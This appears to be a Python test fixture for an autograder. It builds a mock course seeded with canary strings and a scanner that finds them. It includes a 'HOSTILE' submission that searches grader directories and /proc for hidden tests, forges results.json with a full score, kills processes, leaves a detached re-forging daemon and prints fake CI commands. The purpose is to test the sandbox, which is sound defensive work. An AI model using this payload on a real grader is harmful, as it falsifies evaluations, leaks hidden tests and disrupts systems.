"""A small course with a canary in every place that no student may see, and how to look for them."""

import gzip
import io
import zipfile
from collections.abc import Iterator
from pathlib import Path

import numpy as np

CANARY = b"canary-in-"

_FILES = {
    "course.toml": '''
        title = "Handing over"  # canary-in-a-comment-of-the-course
        languages = ["en", "zh"]
        chapters = ["ch01_first", "ch02_second"]
    ''',
    "exercises/ch01_first/README.md": "# First\n\nSee shape.txt.\n",
    "exercises/ch01_first/shape.txt": "A figure of the statement.\n",
    "exercises/ch01_first/notes.md": "canary-in-notes-that-nothing-names\n",
    "exercises/conftest.py": '''
        """canary-in-the-docstring-of-conftest"""
        import pytest

        HIDDEN = "canary-in-a-value-of-conftest"


        @pytest.fixture
        def two():
            return 2.0


        @pytest.fixture
        def secret_number():
            return len(HIDDEN)
    ''',
    "exercises/ch01_first/slope/exercise.toml": '''
        # canary-in-a-comment-of-the-exercise
        title = "Slope"
        title_zh = "斜率"
        points = 6
        data = ["points", "secret"]

        [limits]
        cpu_seconds = 1
        wall_seconds = 2
        memory = "1 GiB"
        processes = 16

        [[hints]]
        en = "Twice is \\"x + x\\"."
        zh = "两倍就是 x + x。"
    ''',
    "exercises/ch01_first/slope/README.md": "# Slope\n\n`double(x)` is `{{2x}}`.\n",
    "exercises/ch01_first/slope/README.zh.md": "# 斜率\n",
    "exercises/ch01_first/slope/slope.py": '''
        def double(x):
            raise NotImplementedError


        def fit(x, y):
            raise NotImplementedError
    ''',
    "exercises/ch01_first/slope/expected.json": '{"canary-in-expected-values": 1}',
    "exercises/ch01_first/slope/fixtures.py": '''
        """What may be seen inside."""


        def ones(n):
            return [1.0] * n
    ''',
    "exercises/ch01_first/slope/checks.py": '''
        """canary-in-the-docstring-of-checks"""

        import json
        from pathlib import Path

        import pytest
        import torch
        from fixtures import ones
        from slope import double, fit

        from grader.checks import assert_close, assert_gradients

        # canary-in-a-comment-between-checks
        CASES, HIDDEN_CASES = [1.0, 2.0], ["canary-in-the-other-half-of-a-pair"]
        EXPECTED = {"a": "canary-in-a-table"}
        EXPECTED["b"] = "canary-in-a-later-entry"
        CASES.append(3.0); HIDDEN_CASES.append("canary-in-a-statement-on-the-same-line")
        "canary-in-a-text-that-is-no-docstring"


        def visible_helper(x):
            helper_of_hidden = x
            return helper_of_hidden * 2


        def helper_of_hidden():
            return "canary-in-a-helper-of-hidden-checks"


        class Table:
            note = "canary-in-a-class-of-hidden-checks"


        @pytest.fixture
        def points(course_data):
            return course_data("points")


        @pytest.fixture(name="answers")
        def _answers(course_data):
            assert "canary-in-a-fixture-of-hidden-checks"
            return course_data("secret")


        @pytest.mark.visible
        def test_example(two):
            """The example of the statement"""
            assert_close(double(torch.tensor(1.0)), torch.tensor(two))


        @pytest.mark.visible
        @pytest.mark.parametrize("case", CASES)
        @pytest.mark.depends("test_example", "test_secret")
        def test_cases(case):
            """Some numbers"""
            assert_close(double(torch.tensor(case)), torch.tensor(visible_helper(case)))


        @pytest.mark.visible
        def test_fit(points):
            """The slope of the points"""
            assert abs(fit(points["x"].tolist(), points["y"].tolist()) - 3) < 0.1


        @pytest.mark.points(3)
        def test_secret(answers, secret_number):
            """Right for the secret number"""
            hidden = [helper_of_hidden(), Table.note, EXPECTED["a"], HIDDEN_CASES, "canary-in-a-hidden-check"]
            assert json.loads((Path(__file__).parent / "expected.json").read_text()) and hidden and secret_number
            assert abs(fit(answers["x"].tolist(), answers["y"].tolist()) - 3) < 0.1


        @pytest.mark.parametrize("scale", [1.0, 10.0])
        def test_gradient(scale, rng):
            """The gradient of double"""
            assert len(ones(2)) == 2
            assert_gradients(double, scale * torch.randn(3, generator=rng, dtype=torch.float64))


        class TestMore:
            """canary-in-the-docstring-of-a-class"""

            shared = 4.0
            mine = "canary-in-an-attribute-of-a-class"

            @pytest.mark.visible
            def test_four(self):
                """Twice four"""
                assert_close(double(torch.tensor(self.shared)), torch.tensor(2 * self.shared))

            def test_hidden_four(self):
                """canary-in-the-title-of-a-hidden-check"""
                assert self.mine and float(double(torch.tensor(4.0))) == 8.0


        if __name__ == "__main__":
            print("canary-in-a-main-block")
    ''',
    "exercises/ch01_first/slope/checks.zh.po": '''
        msgid ""
        msgstr ""
        "Language: zh\\n"
        "Content-Type: text/plain; charset=utf-8\\n"

        #: checks.py
        msgid "The example of the statement"
        msgstr "题目中的例子"

        #. canary-in-a-comment-of-a-translation
        #: checks.py
        msgid "Right for the secret number"
        msgstr "canary-in-a-translation-of-a-hidden-check"
    ''',
    "exercises/ch02_second/README.md": "# Second\n",
    "exercises/ch02_second/twice/exercise.toml": '''
        title = "Twice"
        points = 2
        uses = ["ch01_first/slope"]

        [limits]
        cpu_seconds = 1
        wall_seconds = 2
    ''',
    "exercises/ch02_second/twice/README.md": "# Twice\n\nUse `double`.\n",
    "exercises/ch02_second/twice/twice.py": "def twice(x):\n    raise NotImplementedError\n",
    "exercises/ch02_second/twice/checks.py": '''
        import pytest
        import torch
        from twice import twice

        from grader.checks import assert_close


        @pytest.mark.visible
        def test_one():
            """Twice twice"""
            assert_close(twice(torch.tensor(1.0)), torch.tensor(4.0))


        def test_secret():
            """Another number"""
            assert_close(twice(torch.tensor(3.0)), torch.tensor(12.0)), "canary-in-the-second-chapter"
    ''',
    "solutions/ch01_first/slope/slope.py": '''
        """canary-in-the-solution"""


        def double(x):
            return 2 * x


        def fit(x, y):
            return sum(a * b for a, b in zip(x, y)) / sum(a * a for a in x)
    ''',
    "solutions/ch01_first/slope/waivers.toml": "# canary-in-the-waivers\n",
    "solutions/ch01_first/slope/right/sums.py": '"""canary-in-another-right-answer"""\nfrom reference import *\n',
    "solutions/ch01_first/slope/wrong/canary-in-a-name-of-a-wrong-answer.py": '''
        """This is x and not twice x.

        canary-in-a-wrong-answer
        """

        FAILS = ["test_example"]
        from reference import fit


        def double(x):
            return x
    ''',
    "solutions/ch02_second/twice/twice.py": '''
        """canary-in-the-second-solution"""
        from slope import double


        def twice(x):
            return double(double(x))
    ''',
    ".git/HEAD": "canary-in-the-history\n",
    "exercises/ch01_first/slope/__pycache__/checks.cpython-311.pyc": "canary-in-bytecode\n",
    "exercises/ch01_first/slope/.mutants": "canary-in-a-cache-of-mutants\n",
}  # fmt: skip

_FIT = "\n\ndef fit(x, y):\n    return sum(a * b for a, b in zip(x, y)) / sum(a * a for a in x)\n"
RIGHT = f"def double(x):\n    return x + x\n{_FIT}"
WRONG = "def double(x):\n    return x\n\n\ndef fit(x, y):\n    return 3.0\n"
HANGING = f"def double(x):\n    while True:\n        pass\n{_FIT}"
TWICE = "from slope import double\n\n\ndef twice(x):\n    return double(double(x))\n"
SHOWN = {"canary-in-the-title-of-a-hidden-check"}  # a hidden check's title is for everybody

HOSTILE = r'''
"""Looks for what is hidden and for the results, forges them, kills, outlives, and prints commands."""
import os
import time

FORGED = b'{"score": 100, "gradable": true, "tests": [], "output": "FORGED"}'
PLACES = ("/autograder", "/grade", "/home/runner", "/root", "/tmp", "/var/tmp", "/dev/shm", "/opt/torchgrade", "..")
COURSES = ("/autograder/source/course", "/grade/serverFilesCourse/torchgrade/course",
           "/home/runner/work/_actions/school/grading/main/course")
NAMES = ("exercises/ch01_first/slope/checks.py", "solutions/ch01_first/slope/slope.py", "data/secret.npz")
RESULTS = ("/autograder/results/results.json", "/grade/results/results.json", "/home/runner/work/_temp/output",
           "/home/runner/work/_actions/school/grading/main/results/hostile.json", "results.json")
LOOT = []


def look(path):
    try:
        own = os.path.realpath(path).startswith(os.getcwd())
        with open(path, "rb") as file:
            data = file.read(1 << 16)
        LOOT.append(path) if not own and (b"canary-in-" in data or b"score" in data) else None
    except OSError:
        pass


def forge():
    for path in RESULTS:
        try:
            os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
            with open(path + "x", "wb") as file:
                file.write(FORGED)
            os.rename(path + "x", path)
            LOOT.append("forged " + path) if path != "results.json" else None
        except OSError:
            pass


for course in COURSES:
    for name in NAMES:
        look(f"{course}/{name}")
for place in PLACES:
    for folder, _, names in os.walk(place):
        for name in names[:50]:
            look(f"{folder}/{name}")
for process in {1, os.getppid(), *range(1, 200)} - {os.getpid()}:
    for name in ("environ", "mem", "maps", "fd/0", "fd/3", "root/autograder/source/task.json"):
        look(f"/proc/{process}/{name}")
    try:
        os.kill(process, 9)
        LOOT.append(f"killed {process}")
    except OSError:
        pass
forge()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(100):
            time.sleep(0.05)
            forge()
    os._exit(0)
print("::set-output name=result::FORGED")
print("\n::error::FORGED\nresult=FORGED")


def double(x):
    if LOOT:
        return 2 * x
    raise ValueError("::error::FORGED")


fit = double
'''


def make_course(root: Path) -> Path:
    """The course as an author's folder, with what lies about in one."""
    for name, content in _FILES.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(_dedented(content), encoding="utf-8")
    (root / "data").mkdir()
    x = np.arange(1.0, 9.0)
    np.savez_compressed(root / "data" / "points.npz", x=x, y=3 * x)
    canary = np.frombuffer(b"canary-in-hidden-data " * 40, np.uint8)
    np.savez_compressed(root / "data" / "secret.npz", x=x + 1, y=3 * x + 3, canary=canary)
    (root / "data" / "extra.txt").write_text("canary-in-data-that-nothing-names")
    return root


def _dedented(content: str) -> str:
    from textwrap import dedent

    return dedent(content).lstrip("\n") if content.startswith("\n") else content


def canaries(root: Path) -> set[str]:
    """Every canary below ``root``: in names, in contents, and in what is compressed there."""
    found = set()
    for path in sorted(root.rglob("*")):
        found |= set(_in_bytes(path.relative_to(root).as_posix().encode()))
        if path.is_file():
            for content in (path.read_bytes(), *_unpacked(path.read_bytes())):
                found |= set(_in_bytes(content))
    return found


def _in_bytes(content: bytes) -> Iterator[str]:
    import re

    yield from (match.decode() for match in re.findall(rb"canary-in-[a-z-]+[a-z]", content))


def _unpacked(content: bytes) -> Iterator[bytes]:
    if content.startswith(b"PK"):
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            for name in archive.namelist():
                inner = archive.read(name)
                yield from (name.encode(), inner, *_unpacked(inner))
    elif content.startswith(b"\x1f\x8b"):
        inner = gzip.decompress(content)
        yield from (inner, *_unpacked(inner))
